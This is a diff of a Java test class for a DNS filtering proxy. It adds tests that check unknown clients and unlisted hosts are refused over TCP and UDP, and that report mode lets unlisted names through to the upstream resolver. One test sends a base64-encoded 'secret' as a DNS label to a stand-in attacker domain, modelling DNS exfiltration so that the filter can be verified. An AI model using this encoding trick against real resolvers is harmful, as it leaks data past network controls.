@@ -145,6 +145,11 @@ class ClientAnswersTest {
                     .isEqualTo("REFUSED");
             assertThat(refusing.query("leak3.attacker.example", Type.AAAA, false).getRcode())
                     .isEqualTo(Rcode.REFUSED);
+            Message overTcp = refusing.query("leak4.attacker.example", Type.A, true);
+            assertThat(overTcp.getRcode()).isEqualTo(Rcode.REFUSED);
+            assertThat(overTcp.getSection(Section.ANSWER)).isEmpty();
+            assertThat(refusing.listener.last("leak4.attacker.example").decision().reason())
+                    .isEqualTo(Reason.HOST_NOT_ALLOWED);
             assertThat(refusing.upstream.queries()).isZero();
         }
     }
@@ -208,9 +213,22 @@ class ClientAnswersTest {
                 .filter(q -> q.client().getAddress().getHostAddress().equals("127.0.0.9")).findFirst().orElseThrow();
         assertThat(reported.decision().reason()).isEqualTo(Reason.UNKNOWN_CLIENT);
         assertThat(reported.decision().server()).isNull();
-        // Over TCP an unknown source is closed at accept, before its query is read (TcpLimitsTest).
-        try (java.net.Socket tcp = TcpLimitsTest.from("127.0.0.9", dns.filter.tcpAddress())) {
-            assertThat(TcpLimitsTest.closedByPeer(tcp, java.time.Duration.ofSeconds(5))).isTrue();
+        // Over TCP too: dnsjava and dig each get REFUSED (within the TCP connection caps, TcpLimitsTest).
+        Message overTcp = dns.client(true, "127.0.0.9").send(Harness.newQuery("www.example.org", Type.A));
+        assertThat(overTcp.getRcode()).isEqualTo(Rcode.REFUSED);
+        assertThat(overTcp.getSection(Section.ANSWER)).isEmpty();
+        Dig.Result dig = Dig.query(dns.port(), "tcp.example.org", "A", "+tcp", "-b", "127.0.0.9");
+        assertThat(dig.status()).isEqualTo("REFUSED");
+        assertThat(dig.answers()).isEmpty();
+        Dig.Result digUdp = Dig.query(dns.port(), "tcp.example.org", "A", "+notcp", "-b", "127.0.0.9");
+        assertThat(digUdp.status()).isEqualTo("REFUSED");
+        for (String name : List.of("www.example.org", "tcp.example.org")) {
+            assertThat(dns.listener.queries).filteredOn(q -> q.qname().equals(name)
+                    && q.client().getAddress().getHostAddress().equals("127.0.0.9"))
+                    .isNotEmpty().allSatisfy(q -> {
+                        assertThat(q.decision().reason()).isEqualTo(Reason.UNKNOWN_CLIENT);
+                        assertThat(q.rcode()).isEqualTo("REFUSED");
+                    });
         }
     }
 
@@ -225,6 +243,26 @@ class ClientAnswersTest {
         assertThat(reported.decision().server()).isEqualTo("other");
         assertThat(reported.decision().wouldDeny()).isTrue();
         assertThat(reported.decision().allowed()).isTrue();
+    }
+
+    @Test
+    void reportModeForwardsUnlistedNamesUpstreamButNotGlobalDenies() throws Exception {
+        // By design (docs/config.md): report mode lets a DNS query for an unlisted name out, so it
+        // is an exfiltration channel; the always-denied names and ANY still stay local.
+        org.xbill.DNS.SimpleResolver other = dns.client(false, "127.0.0.2");
+        Message leaked = other.send(Harness.newQuery("c2VjcmV0.report.attacker.example", Type.TXT));
+        assertThat(leaked.getRcode()).as("the upstream's own answer").isEqualTo(Rcode.NXDOMAIN);
+        assertThat(dns.upstream.queriesFor("c2vjcmv0.report.attacker.example")).isEqualTo(1);
+        RecordingListener.Query reported = dns.listener.last("c2VjcmV0.report.attacker.example");
+        assertThat(reported.decision().allowed()).isTrue();
+        assertThat(reported.decision().wouldDeny()).isTrue();
+        assertThat(reported.decision().reason()).isEqualTo(Reason.HOST_NOT_ALLOWED);
+
+        assertThat(other.send(Harness.newQuery("report.localhost", Type.A)).getRcode()).isEqualTo(Rcode.NXDOMAIN);
+        assertThat(other.send(Harness.newQuery("any.attacker.example", Type.ANY)).getRcode())
+                .isEqualTo(Rcode.REFUSED);
+        assertThat(dns.upstream.queriesFor("report.localhost")).isZero();
+        assertThat(dns.upstream.queriesFor("any.attacker.example")).isZero();
     }
 
     @Test
